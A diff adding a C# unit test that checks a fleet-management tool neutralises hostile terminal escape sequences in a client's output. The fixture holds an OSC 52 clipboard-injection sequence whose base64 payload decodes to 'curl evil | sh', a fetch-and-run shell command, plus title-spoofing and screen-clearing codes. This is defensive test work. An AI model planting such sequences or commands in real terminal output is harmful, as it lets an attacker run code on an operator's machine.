@@ -295,6 +295,30 @@ public sealed class OperatorVerbsTests : IDisposable
     }
 
     [Fact]
+    public void TextBlock_ShowsAClientsOutputWithoutLettingItDriveTheTerminal()
+    {
+        // A compromised client answers with escape sequences: OSC 52 (write the operator's clipboard), a title change,
+        // a screen clear. exec shows them as text; --json keeps the exact bytes.
+        var result = new FleetCommandResult
+        {
+            Uuid = "u",
+            DisplayName = "web-01",
+            Status = CommandStatus.Succeeded,
+            ExitCode = 0,
+            Stdout = "ok\u001b]52;c;Y3VybCBldmlsIHwgc2g=\u0007\n\u001b[2J",
+            Stderr = "\u001b]0;root@prod\u0007warn\n",
+        };
+
+        var block = OperatorVerbs.TextBlock(result);
+
+        Assert.DoesNotContain('\u001b', block);
+        Assert.DoesNotContain('\u0007', block);
+        Assert.Contains(@"ok\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07" + "\n" + @"\x1b[2J", block, StringComparison.Ordinal);
+        Assert.Contains(@"\x1b]0;root@prod\x07warn" + "\n", block, StringComparison.Ordinal);
+        Assert.Contains("\\u001b]52", OperatorRows.JsonLine(ExecRow.From(result)), StringComparison.OrdinalIgnoreCase);
+    }
+
+    [Fact]
     public void ExecJson_KeepsQuotesAndAnglesReadable()
     {
         var line = OperatorRows.JsonLine(ExecRow.From(new FleetCommandResult { Uuid = "u", DisplayName = "n", Status = CommandStatus.Succeeded, Stdout = "a<b> \"q\" +" }));
